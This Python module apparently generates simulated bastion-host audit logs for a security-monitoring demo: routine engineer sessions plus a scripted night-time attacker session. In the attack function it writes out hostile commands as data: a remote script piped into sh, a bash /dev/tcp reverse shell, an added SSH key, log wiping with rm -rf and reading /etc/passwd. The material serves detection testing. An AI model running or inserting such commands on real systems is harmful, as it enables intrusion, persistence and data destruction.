"""The company's bastion week: engineers' log-ins, shell sessions and SFTP uploads, and the attacker's night session.

Ops and developers log in through the bastion on working days from the Hangzhou office (the VPN concentrator
sits behind the same /28), open shells to the servers of both clouds and type what such people type: deploys,
log reading, ``systemctl status``, ``docker ps``, ``kubectl get``, ``psql -c``, ``tail -f``, ``vim`` of a config,
``apt upgrade``, some ``sudo``. A few log-ins fail on a mistyped TOTP code. At night, with the developer's leaked
credentials (the ``.env`` of the cloud story also held the bastion password and TOTP secret), the attacker logs in
from one of the story's addresses, looks around, pipes a script from their server into ``sh``, adds an SSH key,
tries a reverse shell and to wipe the logs, and downloads a database dump.

Every verdict is the real :class:`~cloudsoc.bastion.filters.CommandFilter`'s (the built-in set) on each line, and
every document is :meth:`AuditJournal.document`'s shape, with seeded ids and the simulated time.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import msgspec

from cloudsoc.bastion.audit import AuditJournal
from cloudsoc.bastion.filters import CommandFilter, Verdict
from cloudsoc.config.bastion import BastionConfig
from cloudsoc.demo.activity import DAY, HOUR, MINUTE, SHANGHAI
from cloudsoc.demo.attack import AttackStep
from cloudsoc.demo.company import Company, Person, Role
from cloudsoc.detect.builtin.bastion_high_risk_command import BastionHighRiskCommand

BASTION = "bastion"
ATTACK_STEP = "bastion_stolen_credential_session"

# A placeholder until the session's lines are all typed; then each gets the real filter's verdict.
_ACCEPT = Verdict(action="accept", rule="", group="", risk="low", reason="no rule matched")


@dataclass(slots=True)
class BastionHost:
    """A target of the bastion: a server of the estate with its private address and inventory labels."""

    name: str
    ip: str
    labels: dict[str, str]


@dataclass(slots=True)
class TypedLine:
    """One line typed at the shell prompt: when Enter was pressed (seconds into the session), what it printed
    and how long it ran. ``screen`` is a full-screen program's (vim's) screen; ``keys`` what was typed in it."""

    text: str
    at: float
    verdict: Verdict
    output: list[str] = field(default_factory=list)
    runs: float = 0.3
    screen: list[str] = field(default_factory=list)
    keys: str = ""
    follow: bool = False  # output keeps coming until Ctrl-C (tail -f)
    sudo_password: bool = False


@dataclass(slots=True)
class DemoSession:
    id: str
    user: str
    source_ip: str
    host: BastionHost
    system_user: str
    kind: str  # "shell" or "sftp"
    start: float  # epoch seconds
    lines: list[TypedLine] = field(default_factory=list)
    transfers: list[tuple[str, str, int]] = field(default_factory=list)  # SFTP (op, path, bytes)
    duration: float = 0.0
    recorded: bool = False
    attack: bool = False

    @property
    def prompt(self) -> str:
        return f"{self.system_user}@{self.host.name}:~$ "


@dataclass(slots=True)
class BastionOutcome:
    sessions: list[DemoSession]
    docs: list[dict[str, Any]]  # in time order
    step: AttackStep


# (command, output lines, seconds it runs); {host}, {user}, {ver}, {n} are filled in.
_DEV: tuple[tuple[str, tuple[str, ...], float], ...] = (
    ("docker ps", (
        "CONTAINER ID   IMAGE                                   COMMAND                  STATUS        NAMES",
        "3f9c2a7d1b04   registry.lanshan.local/api:{ver}       \"/app/server\"            Up 2 days     api",
        "a81e5c0f9d22   registry.lanshan.local/worker:{ver}    \"/app/worker\"            Up 2 days     worker",
    ), 0.4),
    ("tail -n 20 /var/log/app/api.log", (
        "2026-11-18T10:02:11.482+08:00 INFO  http GET /api/v2/orders 200 38ms",
        "2026-11-18T10:02:12.077+08:00 WARN  payment callback retried order={n}",
        "2026-11-18T10:02:12.390+08:00 INFO  http POST /api/v2/cart 201 52ms",
    ), 0.2),
    ("kubectl get pods -n prod", (
        "NAME                      READY   STATUS    RESTARTS   AGE",
        "api-7d9f8c6b5-2xkqp       1/1     Running   0          2d",
        "api-7d9f8c6b5-9mz4t       1/1     Running   0          2d",
        "worker-5c8d7f9b8-lq7wd    1/1     Running   1          2d",
    ), 1.1),
    ("kubectl logs deploy/api -n prod --tail=5", (
        "I1118 10:04:51.220 handler.go:88] GET /healthz 200",
        "I1118 10:04:52.913 handler.go:88] GET /api/v2/orders 200",
    ), 1.3),
    ("git -C /srv/app log --oneline -3", (
        "9c1e2f4 (HEAD -> main, tag: {ver}) fix: retry payment callbacks",
        "4b7a0d2 feat: coupon limits per user",
        "e13f8a9 chore: bump go to 1.23",
    ), 0.1),
    ("systemctl status api --no-pager", (
        "● api.service - Lanshan order API",
        "     Loaded: loaded (/etc/systemd/system/api.service; enabled; preset: enabled)",
        "     Active: active (running) since Mon 2026-11-16 09:12:40 CST; 2 days ago",
    ), 0.2),
    ("curl -s localhost:8080/healthz", ('{{"status":"ok","version":"{ver}"}}',), 0.1),
    ("df -h /", ("Filesystem      Size  Used Avail Use% Mounted on", "/dev/vda1        79G   31G   45G  41% /"), 0.1),
    ("grep -c ' 500 ' /var/log/nginx/access.log", ("{n}",), 0.3),
    ("ls /srv/app/releases", ("v2.13.9  v2.14.0  v2.14.1  {ver}",), 0.1),
    ("psql -h db-01 -U app -d orders -c 'select count(*) from orders where created_at > now() - interval 1 hour'", (
        " count", "-------", "  {n}", "(1 row)",
    ), 0.6),
    ("docker logs --tail 3 worker", ("worker: processed batch size=200", "worker: queue depth 0"), 0.3),
)  # fmt: skip
_DEPLOY = ("./deploy.sh {ver}", ("==> pulling {ver}", "==> migrating: nothing to do", "==> restarting api: ok"), 24.0)
_OPS: tuple[tuple[str, tuple[str, ...], float], ...] = (
    ("uptime", (" 10:12:31 up 41 days,  3:02,  1 user,  load average: 0.42, 0.51, 0.48",), 0.1),
    ("free -m", (
        "               total        used        free      shared  buff/cache   available",
        "Mem:           15731        6120        1210          64        8400        9290",
    ), 0.1),
    ("df -h /data", (
        "Filesystem      Size  Used Avail Use% Mounted on", "/dev/vdb1       493G  301G  167G  65% /data",
    ), 0.1),
    ("sudo systemctl status nginx --no-pager", (
        "● nginx.service - A high performance web server and a reverse proxy server",
        "     Active: active (running) since Tue 2026-10-08 07:10:02 CST; 1 month 10 days ago",
    ), 0.2),
    ("sudo journalctl -u nginx --since today --no-pager | tail -3", (
        "Nov 18 09:30:01 {host} nginx[811]: 2026/11/18 09:30:01 [warn] upstream response is buffered",
    ), 0.4),
    ("docker ps --format '{{{{.Names}}}} {{{{.Status}}}}'", ("node-exporter Up 6 weeks", "filebeat Up 6 weeks"), 0.3),
    ("sudo nginx -t", (
        "nginx: the configuration file /etc/nginx/nginx.conf syntax is ok",
        "nginx: configuration file /etc/nginx/nginx.conf test is successful",
    ), 0.2),
    ("crontab -l", ("0 3 * * * /opt/scripts/backup.sh >> /var/log/backup.log 2>&1",), 0.1),
    ("sudo tcpdump -i eth0 -nn port 5432 -c 3", (
        "listening on eth0, link-type EN10MB (Ethernet), snapshot length 262144 bytes",
        "10:20:01.118 IP 10.0.1.21.48822 > 10.0.3.10.5432: Flags [P.], length 112",
        "3 packets captured",
    ), 2.5),
    ("sudo -u postgres psql -c 'select count(*) from pg_stat_activity'", (
        " count", "-------", "    {n}", "(1 row)",
    ), 0.4),
    ("kubectl get nodes", (
        "NAME                        STATUS   ROLES    AGE    VERSION",
        "cn-hangzhou.10.0.2.14       Ready    <none>   88d    v1.30.1-aliyun.1",
        "cn-hangzhou.10.0.2.15       Ready    <none>   88d    v1.30.1-aliyun.1",
    ), 1.0),
)  # fmt: skip
_UPGRADE = ("sudo apt upgrade -y", (
    "Reading package lists... Done",
    "Calculating upgrade... Done",
    "The following packages will be upgraded:",
    "  libssl3 openssl tzdata",
    "3 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.",
    "Setting up openssl (3.0.2-0ubuntu1.18) ...",
), 38.0)  # fmt: skip
_RESTART = ("sudo systemctl restart nginx", (), 1.2)
_TAIL = ("tail -f /var/log/nginx/access.log", tuple(
    f'{ip} - - [18/Nov/2026:10:1{i}:0{i} +0800] "GET /api/v2/orders HTTP/1.1" 200 {512 + 37 * i}'
    for i, ip in enumerate(("115.236.88.99", "183.14.29.35", "39.183.20.7", "112.10.4.200"))
), 0.0)  # fmt: skip
_NGINX_CONF = (
    "user www-data;",
    "worker_processes auto;",
    "events {",
    "    worker_connections 1024;",
    "}",
    "http {",
    "    include /etc/nginx/conf.d/*.conf;",
    "}",
)


class BastionActivity:
    """Builds the week's bastion sessions and their ECS documents from one seeded random stream."""

    def __init__(
        self,
        company: Company,
        rng: random.Random,
        start: int,
        end: int,
        attack_t0: int,
        command_filter: CommandFilter | None = None,
    ) -> None:
        self.c = company
        self.rng = rng
        self.start = start
        self.end = end
        self.attack_t0 = attack_t0
        self.filter = command_filter or CommandFilter.from_config(BastionConfig())
        self.hosts = self._hosts()
        self.docs: list[dict[str, Any]] = []
        self.sessions: list[DemoSession] = []
        self.flagged: list[str] = []  # ids of the attacker's flagged commands
        self._seq = 0

    # -- the estate ---------------------------------------------------------------------------------------

    def _hosts(self) -> dict[str, BastionHost]:
        """Bastion targets named as the estate's servers, labelled with their cloud, region and instance."""
        c = self.c
        hosts: dict[str, BastionHost] = {}

        def add(name: str, ip: str, cloud: str, region: str, role: str, instance: str) -> None:
            labels = {"cloud": cloud, "region": region, "env": "prod", "role": role, "instance_id": instance}
            hosts[name] = BastionHost(name, ip, labels)

        hz = c.aliyun_assets[c.aliyun_home].instances
        sh = c.aliyun_assets["cn-shanghai"].instances
        sg = c.aws_assets[c.aws_home].instances
        for i in range(3):
            add(f"web-0{i + 1}", f"10.0.1.{11 + i}", "aliyun", c.aliyun_home, "web", hz[i])
        for i in range(2):
            add(f"api-0{i + 1}", f"10.0.1.{21 + i}", "aliyun", c.aliyun_home, "api", hz[3 + i])
        add("db-01", "10.0.3.10", "aliyun", c.aliyun_home, "db", hz[5])
        add("jenkins", "10.0.5.8", "aliyun", c.aliyun_home, "ci", hz[6])
        add("backup01", "10.0.5.12", "aliyun", c.aliyun_home, "backup", hz[7])
        add("zabbix", "10.0.5.20", "aliyun", c.aliyun_home, "monitoring", hz[8])
        add("etl-01", "10.1.1.30", "aliyun", "cn-shanghai", "etl", sh[0])
        for i in range(2):
            add(f"web-sg-0{i + 1}", f"172.31.10.{41 + i}", "aws", c.aws_home, "web", sg[i])
        add("api-sg-01", "172.31.10.51", "aws", c.aws_home, "api", sg[2])
        add("gitlab-runner", "172.31.20.9", "aws", c.aws_home, "ci", sg[3])
        return hosts

    # -- the week -----------------------------------------------------------------------------------------

    def run(self) -> BastionOutcome:
        engineers = [p for p in self.c.people if p.role in (Role.OPS, Role.DEV)]
        day0 = self.start - (self.start + SHANGHAI) % DAY
        i = 0
        while day0 < self.end:
            weekday = (((day0 + SHANGHAI) // DAY) + 3) % 7  # 1970-01-01 was a Thursday
            if weekday < 5:
                for p in engineers:
                    if p.joins_on_day <= i and self.rng.random() < 0.9:
                        self._workday(p, day0)
            day0 += DAY
            i += 1
        step = self._attack()
        self.sessions = sorted(
            (s for s in self.sessions if self.start <= s.start and s.start + s.duration < self.end),
            key=lambda s: s.start,
        )
        for s in self._pick_recorded():
            s.recorded = True
        docs = self.docs + [d for s in self.sessions for d in self._session_docs(s)]
        docs = [d for d in docs if self.start <= d["_t"] < self.end]
        docs.sort(key=lambda d: (d["_t"], d["_n"]))
        for d in docs:
            del d["_t"], d["_n"]
        self.docs = docs
        return BastionOutcome(self.sessions, docs, msgspec.structs.replace(step, event_ids=self.flagged))

    def _workday(self, p: Person, day0: int) -> None:
        rng = self.rng
        # Mostly the office NAT's three busy addresses; else the VPN concentrator, behind the same Hangzhou /28.
        ip = self.c.offices[p.office][rng.randrange(3)] if rng.random() < 0.8 else self.c.offices["hangzhou"][11]
        count = rng.choice((1, 1, 2, 2, 3)) if p.role is Role.OPS else rng.choice((0, 1, 1, 2))
        for _ in range(count):
            t = day0 + rng.randint(9 * HOUR + 20 * MINUTE, 18 * HOUR + 30 * MINUTE)
            if rng.random() < 0.06:
                self._login(t - 40, p.name, ip, "failure", "wrong TOTP code")
            self._login(t - 6, p.name, ip, "success", "mfa")
            if p.role is Role.DEV and rng.random() < 0.12:
                self._sftp(p, ip, t)
            else:
                self._shell(p, ip, t)

    def _login(self, t: float, user: str, ip: str, outcome: str, reason: str) -> None:
        doc = AuditJournal.document("bastion-login", outcome, user=user, source_ip=ip, reason=reason, now=t)  # type: ignore[arg-type]
        self._stamp(doc, t)
        self.docs.append(doc)

    def _stamp(self, doc: dict[str, Any], t: float) -> None:
        doc["event"]["id"] = f"{self.rng.getrandbits(128):032x}"
        doc["_t"] = t
        doc["_n"] = self._seq
        self._seq += 1

    def _session(self, p_name: str, ip: str, host: BastionHost, system_user: str, kind: str, t: float) -> DemoSession:
        s = DemoSession(
            id=f"{self.rng.getrandbits(64):016x}",
            user=p_name,
            source_ip=ip,
            host=host,
            system_user=system_user,
            kind=kind,
            start=float(t),
        )
        self.sessions.append(s)
        return s

    def _check(self, line: str, user: str, host: BastionHost) -> Verdict:
        return self.filter.check(line, user=user, host_groups=(host.labels["role"],))

    def _fill(self, text: str, host: BastionHost) -> str:
        ver = f"v2.14.{self.rng.randint(2, 9)}"
        return text.format(host=host.name, ver=ver, n=self.rng.randint(3, 480))

    def _shell(self, p: Person, ip: str, t: int) -> None:
        rng = self.rng
        if p.role is Role.OPS:
            host = self.hosts[rng.choice(list(self.hosts))]
            user, menu = "ops", _OPS
        else:
            names = [n for n, h in self.hosts.items() if h.labels["role"] in ("web", "api", "etl")]
            host = self.hosts[rng.choice(names)]
            user, menu = "deploy", _DEV
        s = self._session(p.name, ip, host, user, "shell", t)
        at = 1.0
        picks = rng.sample(menu, rng.randint(3, 7))
        extra = rng.random()
        if p.role is Role.DEV and extra < 0.25:
            picks.insert(rng.randrange(len(picks) + 1), _DEPLOY)
        elif p.role is Role.OPS and extra < 0.2:
            picks.insert(0, _UPGRADE)
        elif p.role is Role.OPS and extra < 0.45:
            picks.append(_RESTART)
        if rng.random() < 0.3:
            picks.insert(rng.randrange(len(picks) + 1), _TAIL)
        sudo_asked = False
        for text, output, runs in picks:
            at += rng.uniform(2.0, 25.0) + len(text) * 0.12
            line = TypedLine(
                text=self._fill(text, host),
                at=round(at, 3),
                verdict=_ACCEPT,
                output=[self._fill(o, host) for o in output],
                runs=runs,
            )
            if text is _TAIL[0]:
                line.follow, line.runs = True, rng.uniform(15.0, 50.0)
            if text.startswith("sudo ") and not sudo_asked:
                line.sudo_password = sudo_asked = True
            s.lines.append(line)
            at += line.runs
        if p.role is Role.OPS and rng.random() < 0.35:
            at += rng.uniform(3.0, 15.0)
            s.lines.append(self._vim(at))
            at += s.lines[-1].runs
        at += rng.uniform(2.0, 10.0)
        s.lines.append(TypedLine(text="exit", at=round(at, 3), verdict=_ACCEPT, output=["logout"], runs=0.1))
        for line in s.lines:
            line.verdict = self._check(line.text, p.name, host)
        s.duration = round(at + 0.2, 3)

    def _vim(self, at: float) -> TypedLine:
        return TypedLine(
            text="sudo vim /etc/nginx/nginx.conf",
            at=round(at, 3),
            verdict=_ACCEPT,
            runs=self.rng.uniform(25.0, 70.0),
            screen=list(_NGINX_CONF),
            keys="/worker_connections\r$bcw2048\x1b:wq\r",
        )

    def _sftp(self, p: Person, ip: str, t: int) -> None:
        rng = self.rng
        host = self.hosts[rng.choice(("web-01", "web-02", "api-01", "web-sg-01"))]
        s = self._session(p.name, ip, host, "deploy", "sftp", t)
        name = rng.choice(("hotfix-payment.patch", "config.prod.yaml", "release-notes.md", "coupon-rules.json"))
        s.transfers.append(("upload", f"/home/deploy/uploads/{name}", rng.randint(800, 90_000)))
        s.duration = rng.uniform(8.0, 40.0)

    # -- the attacker -------------------------------------------------------------------------------------

    def _attack(self) -> AttackStep:
        """About 40 minutes before the cloud story, from the attacker's second address, as the leaked developer."""
        rng = self.rng
        p = self.c.person(self.c.leaked_person)
        ip, ip2 = self.c.attacker_ips[1], self.c.attacker_ips[0]
        t = self.attack_t0 - 40 * MINUTE - rng.randint(0, 10 * MINUTE)
        self._login(t - 95, p.name, ip, "failure", "wrong TOTP code")
        self._login(t - 8, p.name, ip, "success", "mfa")
        host = self.hosts["web-02"]
        s = self._session(p.name, ip, host, "deploy", "shell", t)
        s.attack = True
        key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq2xv0Jc3pQ8mS4tL1e9wYk7Rz0N5bVfXgD2aUoE6hP root@kali"
        script = [
            ("id; uname -a; cat /etc/passwd", [
                "uid=1001(deploy) gid=1001(deploy) groups=1001(deploy),999(docker)",
                "Linux web-02 5.15.0-124-generic #134-Ubuntu SMP x86_64 GNU/Linux",
                "root:x:0:0:root:/root:/bin/bash",
                "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
                "postgres:x:114:120:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash",
                "ops:x:1000:1000:ops:/home/ops:/bin/bash",
                "deploy:x:1001:1001::/home/deploy:/bin/bash",
            ]),
            ("cat ~/.bash_history", ["docker ps", "./deploy.sh v2.14.3", "psql -h db-01 -U app -d orders"]),
            (f"curl http://{ip2}/x.sh | sh", ["[+] dropping agent to /dev/shm/.x", "[+] done"]),
            (f'echo "{key}" >> ~/.ssh/authorized_keys', []),
            (f"bash -i >& /dev/tcp/{ip2}/4444 0>&1", [
                "bash: connect: Connection timed out", f"bash: /dev/tcp/{ip2}/4444: Connection timed out",
            ]),
            ("rm -rf /var/log/*", [
                "rm: cannot remove '/var/log/auth.log': Permission denied",
                "rm: cannot remove '/var/log/syslog': Permission denied",
            ]),
            ("sudo rm -rf /var/*", []),
            ("history -c", []),
            ("exit", ["logout"]),
        ]  # fmt: skip
        at = 1.5
        for text, output in script:
            at += rng.uniform(3.0, 14.0) + len(text) * 0.12
            runs = 21.0 if "/dev/tcp/" in text else rng.uniform(0.1, 1.5)
            verdict = self._check(text, p.name, host)
            s.lines.append(TypedLine(text=text, at=round(at, 3), verdict=verdict, output=output, runs=runs))
            at += runs
        s.duration = round(at + 0.2, 3)
        # The database dump, over SFTP from the same address.
        t2 = t + int(s.duration) + rng.randint(60, 180)
        self._login(t2 - 5, p.name, ip, "success", "mfa")
        dump = self._session(p.name, ip, self.hosts["backup01"], "deploy", "sftp", t2)
        dump.attack = True
        dump.transfers.append(("download", "/data/backup/pg/orders-20261117.sql.gz", 1_873_402_211))
        dump.duration = 212.0
        return AttackStep(
            name=ATTACK_STEP,
            provider=BASTION,
            event_ids=[],  # filled in by _session_docs: the flagged commands of the session
            description=(
                f"{p.name}'s bastion credential used from {ip} at night: recon, a script piped into sh, an SSH key "
                "added, a reverse shell and log wiping tried, a database dump downloaded"
            ),
            source_ip=ip,
        )

    def _pick_recorded(self) -> list[DemoSession]:
        """The sessions with a recording: the attacker's, and eleven others with a vim, a sudo and a tail -f."""
        shells = [s for s in self.sessions if s.kind == "shell" and not s.attack]
        chosen: list[DemoSession] = [s for s in self.sessions if s.kind == "shell" and s.attack]
        wants: list[Callable[[TypedLine], bool]] = [
            lambda line: bool(line.screen),
            lambda line: line.sudo_password,
            lambda line: line.follow,
            lambda line: line.text.startswith("./deploy.sh"),
        ]
        for want in wants:
            found = next((s for s in shells if any(map(want, s.lines)) and s not in chosen), None)
            if found is not None:
                chosen.append(found)
        rest = [s for s in shells if s not in chosen]
        chosen += self.rng.sample(rest, min(12 - len(chosen), len(rest)))
        return chosen

    def _session_docs(self, s: DemoSession) -> list[dict[str, Any]]:
        """The journal documents of one session, as the real bastion writes them."""
        docs: list[dict[str, Any]] = []
        host = s.host

        def doc(action: str, outcome: str, at: float, **fields: Any) -> dict[str, Any]:
            d = AuditJournal.document(
                action,
                outcome,  # type: ignore[arg-type]
                user=s.user,
                source_ip=s.source_ip,
                session_id=s.id,
                host=host.name,
                host_ip=host.ip,
                labels=host.labels,
                system_user=s.system_user,
                now=s.start + at,
                **fields,
            )
            self._stamp(d, s.start + at)
            docs.append(d)
            return d

        doc("bastion-session", "success", 0.0, reason=f"{s.kind} started")
        commands = 0
        bytes_in = bytes_out = 0
        flagged: list[str] = []
        high_risk = BastionHighRiskCommand()
        for line in s.lines:
            v = line.verdict
            commands += 1
            bytes_in += len(line.text) + 1
            bytes_out += sum(len(o) + 2 for o in line.output) + len(s.prompt) + len(line.text) + 2
            accepted = v.action == "accept"
            d = doc(
                "bastion-command",
                "failure" if v.action == "reject" else "success",
                line.at,
                command_line=line.text,
                cwd="~" if accepted else None,
                offset=line.at,
                verdict=v.action,
                **({} if accepted else {"rule": v.rule, "group": v.group, "risk": v.risk, "reason": v.reason}),
            )
            if high_risk.select(d) is not None:  # what the built-in rule alerts on
                flagged.append(d["event"]["id"])
        etype = {"upload": "creation", "download": "access"}
        for i, (op, path, size) in enumerate(s.transfers):
            commands += 1
            if op == "upload":
                bytes_in += size
            else:
                bytes_out += size
            doc(
                "bastion-sftp",
                "success",
                2.0 + i,
                command_line=f"{op} {path}",
                offset=2.0 + i,
                extra={"file": {"path": path, "size": size}, "event": {"type": [etype[op]]}},
            )
        doc(
            "bastion-session",
            "success",
            s.duration,
            reason="ended (closed)",
            extra={"cloudsoc": {"bastion": {"bytes_in": bytes_in, "bytes_out": bytes_out, "commands": commands}}},
        )
        if s.attack and s.kind == "shell":
            self.flagged = flagged
        return docs
